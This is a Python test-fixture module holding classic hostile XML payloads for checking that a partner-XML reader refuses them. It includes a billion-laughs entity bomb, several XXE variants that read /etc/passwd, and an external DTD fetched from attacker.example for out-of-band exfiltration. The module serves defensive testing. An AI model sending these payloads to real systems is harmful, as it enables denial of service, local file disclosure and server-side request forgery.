"""Classic hostile XML documents, to check that whatever reads partner XML refuses them."""

from __future__ import annotations

from typing import Final

__all__ = ["HOSTILE_XML"]

HOSTILE_XML: Final[dict[str, bytes]] = {
    # Entity expansion bomb: 10^3 "lol"s here, 10^9 with a few more lines.
    "billion_laughs": b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>""",
    # XXE: reads a local file into the document.
    "external_entity": b"""<?xml version="1.0"?>
<!DOCTYPE hoSoKhaiSinh [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<hoSoKhaiSinh><hoTen>&xxe;</hoTen></hoSoKhaiSinh>""",
    # Fetches a DTD from the network (server-side request forgery, out-of-band exfiltration).
    "external_dtd": b"""<?xml version="1.0"?>
<!DOCTYPE hoSoKhaiSinh SYSTEM "http://attacker.example/evil.dtd">
<hoSoKhaiSinh/>""",
    # External parameter entity, expanded inside the DTD itself.
    "parameter_entity": b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>
<r/>""",
    # XInclude: pulls a file in when the consumer processes includes.
    "xinclude": b"""<r xmlns:xi="http://www.w3.org/2001/XInclude">
<xi:include href="file:///etc/passwd" parse="text"/></r>""",
}
"""Classic hostile XML documents by name, for tests of anything that reads partner XML."""
